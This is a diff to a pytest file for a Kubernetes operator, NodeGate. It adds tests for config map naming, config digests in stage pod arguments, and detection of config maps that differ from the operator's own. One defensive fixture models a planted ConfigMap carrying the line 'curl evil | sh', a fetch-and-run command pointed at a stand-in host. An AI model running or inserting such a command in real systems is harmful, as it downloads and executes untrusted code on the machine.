@@ -9,10 +9,18 @@ from typing import Any
 import pytest
 
 from gate.api import keys
+from gate.api.digests import text_config_digest
 from gate.api.nodegate import Interrupt, NodeGate
 from gate.api.versions import image_reference
 from gate.controller.index import StageIndex
-from gate.controller.pods import config_map_name, stage_pod, stage_pod_fields, stage_pod_view
+from gate.controller.pods import (
+    config_map,
+    config_map_name,
+    config_map_problems,
+    stage_pod,
+    stage_pod_fields,
+    stage_pod_view,
+)
 from gate.controller.settings import OperatorSettings
 from gate.lifecycle.machine import PodRequest, Step
 
@@ -68,7 +76,8 @@ def test_a_stage_pod_is_bare_pinned_owned_by_the_gate_privileged_and_bounded_in_
     assert mounts == {"host": "/host", "payload-tuned": "/nodegate-payload", "config-tuned": "/nodegate-config",
                       "facts": "/nodegate-facts"}
     volumes = {v["name"]: v for v in spec["volumes"]}
-    assert volumes["config-tuned"]["configMap"]["name"] == config_map_name("g", "tuned", gate().spec.packages["tuned"])
+    g = gate()
+    assert volumes["config-tuned"]["configMap"]["name"] == config_map_name(g, "tuned", g.spec.packages["tuned"])
     assert volumes["host"] == {"name": "host", "hostPath": {"path": "/", "type": "Directory"}}
     # Every step's timeout together: base's 30 s, tuned's 2 m twice.
     assert spec["activeDeadlineSeconds"] == 30 + 120 + 120
@@ -218,3 +227,41 @@ def test_without_facts_a_stage_pod_still_gets_the_nodes_name_and_an_interrupt_po
     facts = pod["metadata"]["annotations"][FACTS_ANNOTATION]
     assert OperatorFacts.model_validate_json(facts) == OperatorFacts(node="n")
     assert FACTS_ANNOTATION not in stage_pod(gate(), "n", INTERRUPT, SETTINGS)["metadata"]["annotations"]
+
+
+def test_the_config_map_name_is_addressed_by_the_gates_uid_and_the_config() -> None:
+    pkg = gate().spec.packages["tuned"]
+    again = NodeGate.model_validate({**gate().model_dump(by_alias=True, exclude_none=True),
+                                     "metadata": {"name": "g", "generation": 3, "uid": "u-2"}})
+    changed = gate(config={"a.conf": "x=2"})
+    names = {config_map_name(gate(), "tuned", pkg), config_map_name(again, "tuned", pkg),
+             config_map_name(changed, "tuned", changed.spec.packages["tuned"])}
+    assert len(names) == 3 and all(n.startswith("ng-config-") and len(n) == 26 for n in names)
+
+
+def test_each_package_step_carries_the_digest_of_its_config_in_the_pods_spec() -> None:
+    g = gate()
+    pod = stage_pod(g, "n", request(("base", "apply"), ("tuned", "apply")), SETTINGS)
+    args = {c["name"]: c["args"] for c in [*pod["spec"]["initContainers"], *pod["spec"]["containers"]]
+            if c["name"].startswith("apply-")}
+    digests = {name: a[a.index("--config-digest") + 1] for name, a in args.items()}
+    assert digests == {"apply-tuned": text_config_digest({"a.conf": "x=1"}), "apply-base": text_config_digest({})}
+
+
+def test_a_config_map_found_under_its_name_is_taken_only_when_it_is_exactly_the_operators() -> None:
+    g = gate()
+    ours = config_map(g, "tuned", SETTINGS)
+    assert config_map_problems(ours, ours) == []
+    name = ours["metadata"]["name"]
+    # What a namespace admin who created it ahead could have got wrong, or done on purpose.
+    planted = {"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": name, "namespace": "ng-system"},
+               "data": {"a.conf": "x=1", "extra.sh": "curl evil | sh"}, "binaryData": {"b": "AA=="}}
+    assert config_map_problems(planted, ours) == [
+        "its data differs in key(s) extra.sh", "it has binaryData key(s) b", "it is not immutable",
+        "it is not labelled app.kubernetes.io/managed-by=nodegate", "its controller is not NodeGate g (uid u-1)"]
+    # Dressed up as the operator's but for another gate (another uid), or with a changed value.
+    disguised = {**ours, "metadata": {**ours["metadata"], "ownerReferences": [
+        {**ours["metadata"]["ownerReferences"][0], "uid": "u-other"}]}}
+    assert config_map_problems(disguised, ours) == ["its controller is not NodeGate g (uid u-1)"]
+    assert config_map_problems({**ours, "data": {"a.conf": "x=2"}}, ours) == ["its data differs in key(s) a.conf"]
+    assert config_map_problems({**ours, "data": {}}, ours) == ["its data differs in key(s) a.conf"]
